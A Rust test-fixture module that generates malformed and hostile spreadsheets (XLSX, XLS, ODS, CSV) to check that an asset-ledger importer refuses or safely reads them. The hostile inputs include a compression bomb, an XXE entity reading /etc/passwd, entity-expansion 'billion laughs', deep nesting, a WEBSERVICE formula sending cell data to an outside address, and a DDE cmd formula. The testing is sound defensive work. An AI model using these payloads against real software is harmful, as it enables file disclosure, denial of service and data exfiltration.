//! The files.

use std::fs::File;
use std::io::Write;
use std::path::Path;

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// A file, how it is made, and a part of what must be said of it.
pub(crate) struct Case {
    pub(crate) name: &'static str,
    pub(crate) make: fn(&Path),
    pub(crate) says: &'static str,
}

/// Those of which nothing may be imported.
pub(crate) const REFUSED: &[Case] = &[
    Case {
        name: "bomb.xlsx",
        make: |path| book(path, &Parts { sheet: Body::Blanks(400), ..PLAIN }),
        says: "展開すると",
    },
    Case {
        name: "strings.xlsx",
        make: |path| book(path, &Parts { strings: Some(COUNTED), ..PLAIN }),
        says: "4000000000",
    },
    Case {
        name: "deep.xlsx",
        make: |path| book(path, &Parts { sheet: Body::Deep(2_000_000), ..PLAIN }),
        says: "壊れています",
    },
    Case {
        name: "formulas.xlsx",
        make: |path| book(path, &Parts { sheet: Body::Text(FORMULAS), ..PLAIN }),
        says: "見出し",
    },
    Case { name: "huge.xlsx", make: |path| sized(path, 500 << 20), says: "524288000 バイト" },
    Case { name: "truncated.xlsx", make: truncated, says: "終わりの部分" },
    Case { name: "truncated.xls", make: |path| write(path, &compound("Workbook")), says: "壊れています" },
    Case { name: "locked.xlsx", make: |path| write(path, &compound("EncryptedPackage")), says: "パスワード" },
    Case { name: "word.xls", make: |path| write(path, &compound("WordDocument")), says: "拡張子" },
    Case { name: "picture.xlsx", make: |path| write(path, b"\x89PNG\r\n\x1a\n0000"), says: "画像" },
    Case { name: "page.xls", make: |path| write(path, b"<html><table><tr><td>a</td></tr></table>"), says: "HTML" },
    Case { name: "text.ods", make: |path| write(path, b"a,b,c\n1,2,3\n"), says: "拡張子" },
    Case { name: "workbook.csv", make: |path| book(path, &PLAIN), says: "Excel ブック" },
    Case { name: "archive.xlsx", make: |path| parts(path, &[("a.txt", "a")]), says: "ZIP" },
    Case { name: "repeated.ods", make: |path| open(path, REPEATED), says: "ください" },
    Case { name: "entities.ods", make: |path| open(path, LAUGHS), says: "ください" },
    Case { name: "quotes.csv", make: |path| write(path, &vec![b'"'; 20 << 20]), says: "ください" },
    Case { name: "commas.csv", make: |path| write(path, &vec![b','; 20 << 20]), says: "ください" },
    Case { name: "accounts.csv", make: |path| write(path, ACCOUNTS.as_bytes()), says: "個人の情報" },
    Case { name: "empty.csv", make: |path| write(path, b""), says: "中身がありません" },
];

/// Those that hold a ledger beside what looks hostile.
pub(crate) const READ: &[Case] = &[
    Case { name: "corner.xlsx", make: |path| book(path, &Parts { rows: CORNER, ..PLAIN }), says: "機器1行" },
    Case { name: "external.xlsx", make: |path| book(path, &Parts { head: EXTERNAL, ..PLAIN }), says: "機器1行" },
    Case { name: "merged.xlsx", make: |path| book(path, &Parts { tail: MERGED, ..PLAIN }), says: "機器1行" },
    Case {
        name: "macro.xlsm",
        make: |path| book(path, &Parts { extra: &[("xl/vbaProject.bin", "macro")], ..PLAIN }),
        says: "機器1行",
    },
    Case { name: "texts.xlsx", make: |path| book(path, &Parts { texts: 1_000_000, ..PLAIN }), says: "機器1行" },
    Case {
        name: "wide.csv",
        make: |path| write(path, format!("{CSV}{}\n", ",x".repeat(1_000_000)).as_bytes()),
        says: "機器1行",
    },
    Case { name: "long.csv", make: long, says: "機器99999行" },
    Case { name: "full.csv", make: full, says: "機器99990行" },
];

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const CSV: &str = "管理番号,コンピュータ名,IPアドレス\n001,PC1,10.0.0.1";
const ACCOUNTS: &str = "No.,所属部署,姓,名,電話番号,ユーザID,権限\n1,A科,山田,花子,0000,yamada,User\n";
const COUNTED: &str = r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" uniqueCount="4000000000"><si><t>a</t></si></sst>"#;
const CORNER: &str = r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#;
const MERGED: &str = r#"<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>"#;
const EXTERNAL: &str = "<!DOCTYPE worksheet [<!ENTITY file SYSTEM \"file:///etc/passwd\">]>";
/// Formulas that were never computed, in place of a ledger: nothing of them is run.
const FORMULAS: &str = r#"<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f></c><c r="B1"><f>cmd|'/c calc'!A0</f></c></row>"#;
const REPEATED: &str = r#"<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>a</text:p></table:table-cell></table:table-row>"#;
const LAUGHS: &str = r"<table:table-row><table:table-cell><text:p>&lol9;</text:p></table:table-cell></table:table-row>";
const ROWS: &str = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>管理番号</t></is></c><c r="B1" t="inlineStr"><is><t>コンピュータ名</t></is></c><c r="C1" t="inlineStr"><is><t>IPアドレス</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>001</t></is></c><c r="B2" t="inlineStr"><is><t>PC1</t></is></c><c r="C2" t="inlineStr"><is><t>10.0.0.1</t></is></c></row>"#;

const TYPES: &str = r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;
const ROOT: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="台帳" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const LINKS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;

/// A workbook of one sheet: what is other than plain about it.
struct Parts {
    head: &'static str,
    sheet: Body,
    rows: &'static str,
    tail: &'static str,
    strings: Option<&'static str>,
    texts: usize,
    extra: &'static [(&'static str, &'static str)],
}

enum Body {
    Text(&'static str),
    /// Elements in elements.
    Deep(usize),
    /// A comment of so many MiB of blanks.
    Blanks(usize),
}

const PLAIN: Parts =
    Parts { head: "", sheet: Body::Text(ROWS), rows: "", tail: "", strings: None, texts: 0, extra: &[] };

/// Writes part by part: the test must not need the memory that it forbids.
fn book(path: &Path, parts: &Parts) {
    let mut archive = ZipWriter::new(File::create(path).unwrap());
    let mut part = |name: &str, write: &dyn Fn(&mut dyn Write)| {
        archive.start_file(name, SimpleFileOptions::default()).unwrap();
        write(&mut archive);
    };
    let text = |out: &mut dyn Write, text: &str| out.write_all(text.as_bytes()).unwrap();
    part("[Content_Types].xml", &|out| text(out, TYPES));
    part("_rels/.rels", &|out| text(out, ROOT));
    part("xl/workbook.xml", &|out| text(out, BOOK));
    part("xl/_rels/workbook.xml.rels", &|out| text(out, LINKS));
    part("xl/worksheets/sheet1.xml", &|out| {
        text(out, parts.head);
        text(out, &format!(r#"<worksheet xmlns="{MAIN}">"#));
        match parts.sheet {
            Body::Text(rows) => text(out, &format!("<sheetData>{rows}{}</sheetData>", parts.rows)),
            Body::Deep(depth) => (0..depth).for_each(|_| text(out, "<a>")),
            Body::Blanks(mebibytes) => {
                text(out, "<!--");
                let blanks = vec![b' '; 1 << 20];
                (0..mebibytes).for_each(|_| out.write_all(&blanks).unwrap());
                text(out, "-->");
            }
        }
        text(out, &format!("{}</worksheet>", parts.tail));
    });
    if parts.strings.is_some() || parts.texts > 0 {
        part("xl/sharedStrings.xml", &|out| match parts.strings {
            Some(strings) => text(out, strings),
            None => text(out, &format!(r#"<sst xmlns="{MAIN}">{}</sst>"#, "<si><t/></si>".repeat(parts.texts))),
        });
    }
    for (name, content) in parts.extra {
        part(name, &|out| text(out, content));
    }
    archive.finish().unwrap();
}

/// An `OpenDocument` spreadsheet of these rows.
fn open(path: &Path, rows: &str) {
    let head = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol9 "&lol;&lol;&lol;&lol;&lol;">]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="a">"#;
    let content = format!("{head}{rows}</table:table></office:spreadsheet></office:body></office:document-content>");
    let kind = "application/vnd.oasis.opendocument.spreadsheet";
    let manifest = r#"<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>"#;
    parts(path, &[("mimetype", kind), ("META-INF/manifest.xml", manifest), ("content.xml", &content)]);
}

fn parts(path: &Path, parts: &[(&str, &str)]) {
    let mut archive = ZipWriter::new(File::create(path).unwrap());
    for (name, text) in parts {
        let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        archive.start_file(*name, stored).unwrap();
        archive.write_all(text.as_bytes()).unwrap();
    }
    archive.finish().unwrap();
}

fn truncated(path: &Path) {
    book(path, &PLAIN);
    let whole = std::fs::read(path).unwrap();
    write(path, &whole[..whole.len() / 2]);
}

/// A compound file that ends behind the name of its stream.
fn compound(stream: &str) -> Vec<u8> {
    let mut bytes = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    bytes.extend(stream.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// A file of this size that takes no room.
fn sized(path: &Path, bytes: u64) {
    File::create(path).unwrap().set_len(bytes).unwrap();
}

/// More rows than are read.
fn long(path: &Path) {
    let mut file = std::io::BufWriter::new(File::create(path).unwrap());
    writeln!(file, "管理番号,コンピュータ名,IPアドレス").unwrap();
    (0..120_000).for_each(|row| writeln!(file, "A{row},PC{row},10.0.0.1").unwrap());
}

/// As many cells as are read, in rows as a hospital writes them.
fn full(path: &Path) {
    let mut file = std::io::BufWriter::new(File::create(path).unwrap());
    let heading = "管理番号,メーカー,OS,ソフトウェア,ソフトウェアバージョン,IPアドレス,コンピュータ名,設置場所,利用者,登録日,状態,説明,MACアドレス,部門,機器区分";
    writeln!(file, "{heading}").unwrap();
    for row in 0..99_990_u32 {
        let [_, a, b, c] = row.to_be_bytes();
        let keys = format!(
            "10.{a}.{b}.{c},PC{row:06},本館{}F 外来,部署共用,2023/4/1,稼働,電子カルテ端末,00:00:97:{a:02X}:{b:02X}:{c:02X}",
            row % 9
        );
        writeln!(file, "IT-{row},富士通,Windows 11 Pro,電子カルテ,8.2,{keys},外来,端末PC").unwrap();
    }
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::write(path, bytes).unwrap();
}
